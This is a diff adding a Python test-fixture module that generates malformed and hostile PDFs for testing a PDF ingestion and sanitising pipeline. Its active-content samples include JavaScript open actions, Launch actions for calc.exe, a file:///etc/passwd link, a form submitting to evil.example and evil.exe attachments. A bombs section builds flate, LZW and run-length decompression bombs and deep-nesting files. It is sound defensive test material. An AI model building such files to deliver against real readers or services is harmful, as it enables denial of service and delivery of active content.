@@ -1,0 +1,576 @@
+"""Every kind of bad PDF that we know how to make, with what is promised of it.
+
+A promise is "bound" (without a word), "repaired" (bound, with a warning), or the reason of a
+refusal; several where it depends on what the libraries manage to save.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+import zlib
+from io import BytesIO
+from typing import TYPE_CHECKING
+
+import pikepdf
+from PIL import Image
+
+from tests.pdf.samples import Chapter, Raw, link, page_object
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+Kind = tuple["Callable[[], bytes]", tuple[str, ...]]
+KINDS: dict[str, Kind] = {}
+
+
+def kind(*promise: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
+    """Enter a kind into the table under its function's name."""
+
+    def enter(make: Callable[[], bytes]) -> Callable[[], bytes]:
+        KINDS[make.__name__.replace("_", "-")] = (make, promise)
+        return make
+
+    return enter
+
+
+def plain() -> bytes:
+    return Chapter().data()
+
+
+def saved(change: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
+    """The plain chapter, changed and saved by qpdf."""
+    with pikepdf.open(BytesIO(plain())) as pdf:
+        if change is not None:
+            change(pdf)
+        out = BytesIO()
+        pdf.save(out, **options)
+        return out.getvalue()
+
+
+def with_content(data: bytes, extra: str, length: int | None = None) -> bytes:
+    """A chapter whose first page has this content stream as its bytes."""
+    file = Chapter().raw()
+    number = file.stream(data, extra, length)
+    body = file.bodies[page_object(0) - 1]
+    file.set(page_object(0), re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % number, body))
+    return file.data()
+
+
+def with_image(data: bytes, extra: str) -> bytes:
+    """A chapter with an image on its first page."""
+    file = Chapter().raw()
+    image = file.stream(data, f"/Type/XObject/Subtype/Image/Width 16/Height 16{extra}")
+    paint = file.stream(b"q 100 0 0 100 60 100 cm /Im Do Q", "")
+    body = file.bodies[page_object(0) - 1]
+    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % paint, body)
+    body = body.replace(b"/Resources<<", b"/Resources<</XObject<</Im %d 0 R>>" % image)
+    file.set(page_object(0), body)
+    return file.data()
+
+
+def lzw(data: bytes) -> bytes:
+    """LZW without compression: nine-bit codes, cleared before the tenth bit is due."""
+    bits = "".join(
+        ("100000000" if n % 200 == 0 else "") + format(byte, "09b") for n, byte in enumerate(data)
+    )
+    bits += "100000001"
+    bits += "0" * (-len(bits) % 8)
+    return int(bits, 2).to_bytes(len(bits) // 8, "big")
+
+
+def a85(data: bytes) -> bytes:
+    return base64.a85encode(data) + b"~>"
+
+
+def run_length(data: bytes) -> bytes:
+    pieces = (data[n : n + 128] for n in range(0, len(data), 128))
+    return b"".join(bytes((len(piece) - 1,)) + piece for piece in pieces) + b"\x80"
+
+
+CONTENT = Chapter().content(0)
+PIXELS = bytes(range(256))
+
+# Streams of every making
+
+kind("bound")(plain)
+
+
+@kind("bound")
+def stream_lzw() -> bytes:
+    return with_content(lzw(CONTENT), "/Filter/LZWDecode")
+
+
+@kind("bound")
+def stream_ascii85() -> bytes:
+    return with_content(a85(CONTENT), "/Filter[/ASCII85Decode]")
+
+
+@kind("bound")
+def stream_asciihex() -> bytes:
+    return with_content(CONTENT.hex().encode() + b">", "/Filter/ASCIIHexDecode")
+
+
+@kind("bound")
+def stream_run_length() -> bytes:
+    return with_content(run_length(CONTENT), "/Filter/RunLengthDecode")
+
+
+@kind("bound")
+def stream_unfiltered() -> bytes:
+    return with_content(CONTENT, "")
+
+
+@kind("bound")
+def stream_chain() -> bytes:
+    return with_content(a85(lzw(CONTENT)), "/Filter[/ASCII85Decode/LZWDecode]")
+
+
+@kind("bound")
+def stream_chain_of_three() -> bytes:
+    data = (a85(zlib.compress(CONTENT))).hex().encode() + b">"
+    return with_content(data, "/Filter[/ASCIIHexDecode/ASCII85Decode/FlateDecode]")
+
+
+@kind("bound")
+def stream_lzw_late_change() -> bytes:
+    extra = "/Filter/LZWDecode/DecodeParms<</EarlyChange 0>>"
+    return with_content(lzw(CONTENT), extra)
+
+
+@kind("bound")
+def image_unfiltered() -> bytes:
+    return with_image(PIXELS, "/BitsPerComponent 8/ColorSpace/DeviceGray")
+
+
+@kind("bound")
+def image_flate_predictor() -> bytes:
+    rows = b"".join(b"\0" + PIXELS[n : n + 16] for n in range(0, 256, 16))
+    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
+    return with_image(zlib.compress(rows), extra + "/DecodeParms<</Predictor 15/Columns 16>>")
+
+
+@kind("bound")
+def image_lzw_tiff_predictor() -> bytes:
+    rows = bytearray(PIXELS)
+    for n in range(255, -1, -1):
+        if n % 16:
+            rows[n] = (rows[n] - rows[n - 1]) % 256
+    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/LZWDecode"
+    return with_image(lzw(bytes(rows)), extra + "/DecodeParms<</Predictor 2/Columns 16>>")
+
+
+@kind("bound")
+def image_jpeg_in_ascii85() -> bytes:
+    out = BytesIO()
+    Image.frombytes("L", (16, 16), PIXELS).save(out, "JPEG")
+    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter[/ASCII85Decode/DCTDecode]"
+    return with_image(a85(out.getvalue()), extra)
+
+
+# Files of every structure
+
+
+@kind("bound")
+def object_streams() -> bytes:
+    return saved(object_stream_mode=pikepdf.ObjectStreamMode.generate)
+
+
+@kind("bound")
+def linearized() -> bytes:
+    return saved(linearize=True)
+
+
+@kind("bound")
+def several_ends() -> bytes:
+    data = plain()
+    start = data.rindex(b"startxref")
+    old = int(data[start:].split()[1])
+    more = b"trailer\n<</Size 12/Root 9 0 R/Prev %d>>\n" % old
+    root = re.search(rb"/Root (\d+) 0 R", data)
+    assert root is not None
+    more = more.replace(b"9 0 R", root.group(1) + b" 0 R")
+    at = len(data)
+    return data + b"xref\n0 1\n0000000000 65535 f \n" + more + b"startxref\n%d\n%%%%EOF\n" % at
+
+
+@kind("bound")
+def encrypted_rc4() -> bytes:
+    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=3, aes=False, metadata=False))
+
+
+@kind("bound")
+def encrypted_aes() -> bytes:
+    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=6))
+
+
+@kind("bound", "repaired")
+def junk_before() -> bytes:
+    return b"HTTP leftovers\r\n\r\n" + plain()
+
+
+@kind("bound")
+def junk_after() -> bytes:
+    return plain() + b"<!-- served in 0.01 s -->\n" * 20
+
+
+@kind("bound")
+def inherited_attributes() -> bytes:
+    file = Chapter().raw()
+    for index in range(3):
+        body = file.bodies[page_object(index) - 1]
+        file.set(page_object(index), body.replace(b"/MediaBox[0 0 522 702]", b""))
+    tree = file.bodies[2]
+    file.set(3, tree[:-2] + b"/MediaBox[0 0 522 702]/Rotate 90>>")
+    return file.data()
+
+
+@kind("bound")
+def nested_page_tree() -> bytes:
+    file = Chapter().raw()
+    above = file.add("<</Type/Pages/Count 3/Kids[3 0 R]>>")
+    file.set(3, file.bodies[2][:-2] + b"/Parent %d 0 R>>" % above)
+    root = file.bodies[file.root - 1]
+    file.set(file.root, root.replace(b"/Pages 3 0 R", b"/Pages %d 0 R" % above))
+    return file.data()
+
+
+@kind("bound")
+def origin_elsewhere() -> bytes:
+    return plain().replace(b"[0 0 522 702]", b"[9 9 509 709]")
+
+
+@kind("bound")
+def page_without_contents() -> bytes:
+    file = Chapter().raw()
+    body = file.bodies[page_object(2) - 1]
+    file.set(page_object(2), re.sub(rb"/Contents \d+ 0 R", b"", body))
+    return file.data()
+
+
+@kind("bound")
+def shared_contents() -> bytes:
+    file = Chapter().raw()
+    body = file.bodies[page_object(2) - 1]
+    file.set(page_object(2), re.sub(rb"/Contents \d+ 0 R", b"/Contents[5 0 R 7 0 R]", body))
+    return file.data()
+
+
+@kind("bound")
+def resources_named_like_actions() -> bytes:
+    file = Chapter().raw()
+    fonts = file.add("<</AA 1 0 R/JS 2 0 R/T 1 0 R/B 2 0 R>>")
+    for index in range(3):
+        body = file.bodies[page_object(index) - 1]
+        body = body.replace(b"<</T 1 0 R/B 2 0 R>>", b" %d 0 R" % fonts)
+        file.set(page_object(index), body)
+    for index in range(3):
+        content = Chapter().content(index).replace(b"/T 10.6", b"/AA 10.6")
+        file.set(
+            page_object(index) + 1,
+            b"<</Length %d>>\nstream\n%b\nendstream" % (len(content), content),
+        )
+    return file.data()
+
+
+@kind("bound")
+def own_outline_dead() -> bytes:
+    items = (
+        "/Outlines<</First<</Title(Table of Contents)/A<</S/GoToR/F(TOC.PDF)/D[0/Fit]>>"
+        "/Next<</Title(Gone)/Dest[999 0 R/Fit]>>>>>>"
+    )
+    return Chapter(catalog=items).data()
+
+
+@kind("bound")
+def layers() -> bytes:
+    file = Chapter(catalog="/OCProperties 99 0 R").raw()
+    group = file.add("<</Type/OCG/Name(Notes)>>")
+    hidden = file.stream(b"/OC /Secret BDC 60 60 200 200 re f EMC")
+    properties = file.add(f"<</OCGs[{group} 0 R]/D<</OFF[{group} 0 R]>>>>")
+    file.set(file.root, file.bodies[file.root - 1].replace(b"99 0 R", b"%d 0 R" % properties))
+    body = file.bodies[page_object(0) - 1]
+    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % hidden, body)
+    body = body.replace(b"/Resources<<", b"/Resources<</Properties<</Secret %d 0 R>>" % group)
+    file.set(page_object(0), body)
+    return file.data()
+
+
+# Files with something to hide; test_harmless looks at what becomes of it
+
+_SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
+
+ACTIVE = {
+    "script-on-open": Chapter(catalog=f"/OpenAction{_SCRIPT}"),
+    "script-in-names": Chapter(catalog=f"/Names<</JavaScript<</Names[(a){_SCRIPT}]>>>>"),
+    "script-on-page": Chapter(page_extra=f"/AA<</O{_SCRIPT}>>"),
+    "script-on-close": Chapter(catalog=f"/AA<</WC{_SCRIPT}>>"),
+    "link-script": Chapter(annotations={0: link(f"/A{_SCRIPT}")}),
+    "link-chain": Chapter(annotations={0: link(f"/Dest[4 0 R/Fit]/AA<</E{_SCRIPT}>>/PA{_SCRIPT}")}),
+    "link-javascript-uri": Chapter(
+        annotations={0: link("/A<</S/URI/URI(javascript:alert\\(1\\))>>")}
+    ),
+    "link-file-uri": Chapter(annotations={0: link("/A<</S/URI/URI(file:///etc/passwd)>>")}),
+    "link-launch": Chapter(annotations={0: link("/A<</S/Launch/F(calc.exe)>>")}),
+    "link-launch-windows": Chapter(annotations={0: link("/A<</S/Launch/Win<</F(calc.exe)>>>>")}),
+    "link-other-file": Chapter(annotations={0: link("/A<</S/GoToR/F(OTHER.PDF)/D[0/Fit]>>")}),
+    "link-embedded": Chapter(annotations={0: link("/A<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>")}),
+    "link-import-data": Chapter(annotations={0: link("/A<</S/ImportData/F(x.fdf)>>")}),
+    "link-rendition": Chapter(annotations={0: link("/A<</S/Rendition/JS(x)/OP 0>>")}),
+    "form-submit": Chapter(
+        annotations={
+            0: "<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[9 9 99 99]"
+            "/A<</S/SubmitForm/F(http://evil.example/)>>>>"
+        },
+        catalog=f"/AcroForm<</Fields[]/CO[]/XFA(x)/DR<<>>/AA<</K{_SCRIPT}>>>>",
+    ),
+    "attachment-in-names": Chapter(
+        catalog="/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(evil.exe)>>]>>>>"
+    ),
+    "attachment-on-page": Chapter(
+        annotations={
+            0: "<</Type/Annot/Subtype/FileAttachment/Rect[9 9 99 99]"
+            "/FS<</Type/Filespec/F(evil.exe)>>>>"
+        }
+    ),
+    "attachment-of-page": Chapter(page_extra="/AF[<</Type/Filespec/F(evil.exe)>>]"),
+    "movie": Chapter(
+        annotations={0: "<</Type/Annot/Subtype/Movie/Rect[9 9 99 99]/Movie<</F(x.avi)>>>>"}
+    ),
+    "rich-media": Chapter(
+        annotations={0: "<</Type/Annot/Subtype/RichMedia/Rect[9 9 99 99]/RichMediaContent<<>>>>"}
+    ),
+}
+for _name, _chapter in ACTIVE.items():
+    KINDS[f"active-{_name}"] = (_chapter.data, ("bound",))
+
+# Files that are broken
+
+
+@kind("repaired")
+def lost_startxref() -> bytes:
+    data = plain()
+    return data[: data.rindex(b"startxref")]
+
+
+@kind("repaired")
+def wrong_startxref() -> bytes:
+    return re.sub(rb"startxref\n\d+", b"startxref\n7", plain())
+
+
+@kind("repaired")
+def shifted_xref() -> bytes:
+    return plain().replace(b"%PDF-1.4\n", b"%PDF-1.4\n% a line too many\n")
+
+
+@kind("repaired")
+def lost_xref_and_trailer() -> bytes:
+    data = plain()
+    return data[: data.rindex(b"xref\n0 ")] + b"%%EOF\n"
+
+
+@kind("repaired")
+def length_too_short() -> bytes:
+    return with_content(zlib.compress(CONTENT), "/Filter/FlateDecode", length=20)
+
+
+@kind("repaired")
+def length_of_two_gigabytes() -> bytes:
+    return with_content(zlib.compress(CONTENT), "/Filter/FlateDecode", length=2_000_000_000)
+
+
+@kind("repaired")
+def length_negative() -> bytes:
+    return with_content(CONTENT, "", length=-5)
+
+
+@kind("repaired")
+def lost_endobj() -> bytes:
+    data = plain()
+    return data.replace(b"\nendobj\n", b"\n", 3).replace(b"startxref", b"startxref\n9 %")
+
+
+@kind("empty")
+def empty() -> bytes:
+    return b""
+
+
+@kind("not-pdf")
+def html_page() -> bytes:
+    return b"<!DOCTYPE html><html><body>Service temporarily unavailable</body></html>"
+
+
+@kind("not-pdf")
+def zeroes() -> bytes:
+    return bytes(40_000)
+
+
+@kind("damaged")
+def only_a_header() -> bytes:
+    return b"%PDF-1.4\n%%EOF\n"
+
+
+@kind("password")
+def password() -> bytes:
+    return saved(encryption=pikepdf.Encryption(owner="x", user="secret", R=6))
+
+
+@kind("no-pages")
+def no_pages() -> bytes:
+    file = Raw()
+    tree = file.add("<</Type/Pages/Count 0/Kids[]>>")
+    file.root = file.add(f"<</Type/Catalog/Pages {tree} 0 R>>")
+    return file.data()
+
+
+@kind("no-pages", "damaged")
+def no_page_tree() -> bytes:
+    file = Raw()
+    file.root = file.add("<</Type/Catalog>>")
+    return file.data()
+
+
+@kind("cycle")
+def page_tree_in_a_circle() -> bytes:
+    file = Chapter().raw()
+    file.set(3, "<</Type/Pages/Count 3/Kids[4 0 R 3 0 R 6 0 R]>>")
+    return file.data()
+
+
+@kind("cycle")
+def page_tree_in_a_wide_circle() -> bytes:
+    file = Chapter().raw()
+    node = file.add("<</Type/Pages/Count 3/Kids[6 0 R 3 0 R]>>")
+    file.set(3, f"<</Type/Pages/Count 3/Kids[4 0 R {node} 0 R]>>")
+    return file.data()
+
+
+@kind("cycle", "damaged")
+def page_tree_5000_deep() -> bytes:
+    file = Chapter().raw()
+    first = len(file.bodies) + 1
+    for n in range(5000):
+        file.add(f"<</Type/Pages/Count 3/Kids[{first + n + 1} 0 R]>>")
+    file.add(file.bodies[2])
+    root = file.bodies[file.root - 1]
+    file.set(file.root, root.replace(b"/Pages 3 0 R", b"/Pages %d 0 R" % first))
+    return file.data()
+
+
+@kind("damaged")
+def flipped_bits_in_content() -> bytes:
+    data = bytearray(zlib.compress(CONTENT))
+    data[len(data) // 2] ^= 0xFF
+    return with_content(bytes(data), "/Filter/FlateDecode")
+
+
+@kind("damaged")
+def content_cut_short() -> bytes:
+    return with_content(zlib.compress(CONTENT)[:-40], "/Filter/FlateDecode")
+
+
+@kind("damaged")
+def content_in_bad_ascii85() -> bytes:
+    return with_content(b"\x80\x81 no ascii85 at all ~~~ \xff", "/Filter/ASCII85Decode")
+
+
+@kind("damaged")
+def content_of_unknown_filter() -> bytes:
+    return with_content(CONTENT, "/Filter/SecretDecode")
+
+
+@kind("bound")
+def content_missing() -> bytes:
+    file = Chapter().raw()
+    body = file.bodies[page_object(1) - 1]
+    file.set(page_object(1), re.sub(rb"/Contents \d+ 0 R", b"/Contents 999 0 R", body))
+    return file.data()
+
+
+@kind("damaged", "no-pages", "repaired")
+def cut_in_the_middle() -> bytes:
+    data = plain()
+    return data[: len(data) // 2]
+
+
+@kind("other-chapter")
+def another_chapter() -> bytes:
+    return Chapter(number=7, title="Convolution of Trains").data()
+
+
+# Bombs
+
+
+@kind("too-big")
+def flate_bomb_in_content() -> bytes:
+    packer = zlib.compressobj(9)
+    block = b" " * 1_000_000
+    data = b"".join(packer.compress(block) for _ in range(400)) + packer.flush()
+    return with_content(data, "/Filter/FlateDecode")
+
+
+@kind("too-big", "damaged")
+def flate_bomb_in_ascii85() -> bytes:
+    packer = zlib.compressobj(9)
+    block = bytes(1_000_000)
+    data = b"".join(packer.compress(block) for _ in range(400)) + packer.flush()
+    return with_content(a85(data), "/Filter[/ASCII85Decode/FlateDecode]")
+
+
+@kind("too-big", "damaged")
+def run_length_bomb() -> bytes:
+    return with_content(b"\x81 " * 3_000_000 + b"\x80", "/Filter/RunLengthDecode")
+
+
+@kind("too-big", "crashed", "damaged")
+def lzw_bomb() -> bytes:
+    # The longest strings that LZW can say: every code is the one that is being made.
+    codes = []
+    for _ in range(150):
+        codes += [(256, 9), (0, 9)]
+        for code in range(258, 4094):
+            codes.append(
+                (code, 9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12)
+            )
+    bits = "".join(format(code, f"0{width}b") for code, width in codes)
+    bits += "0" * (-len(bits) % 8)
+    data = int(bits, 2).to_bytes(len(bits) // 8, "big")
+    return with_content(data, "/Filter/LZWDecode")
+
+
+@kind("too-big", "too-slow")
+def million_objects() -> bytes:
+    file = Chapter().raw()
+    file.bodies += [b"null"] * 1_000_000
+    return file.data()
+
+
+@kind("bound", "repaired")
+def array_of_200000() -> bytes:
+    return Chapter(catalog="/Pad[" + "0 " * 200_000 + "]").data()
+
+
+@kind("bound", "repaired", "damaged")
+def brackets_100000_deep() -> bytes:
+    return Chapter(catalog="/Pad" + "[" * 100_000 + "]" * 100_000).data()
+
+
+@kind("bound", "damaged", "too-big")
+def forms_1000_deep() -> bytes:
+    file = Chapter().raw()
+    first = len(file.bodies) + 1
+    for n in range(1000):
+        resources = f"/Resources<</XObject<</X {first + n + 1} 0 R>>>>"
+        file.stream(b"/X Do", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]{resources}")
+    file.stream(b"0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
+    body = file.bodies[page_object(0) - 1]
+    body = body.replace(b"/Resources<<", b"/Resources<</XObject<</X %d 0 R>>" % first)
+    file.set(page_object(0), body)
+    return file.data()
+
+
+@kind("too-big", "damaged")
+def million_pages() -> bytes:
+    file = Chapter().raw()
+    file.set(3, "<</Type/Pages/Count 3/Kids[" + "4 0 R " * 100_000 + "]>>")
+    return file.data()
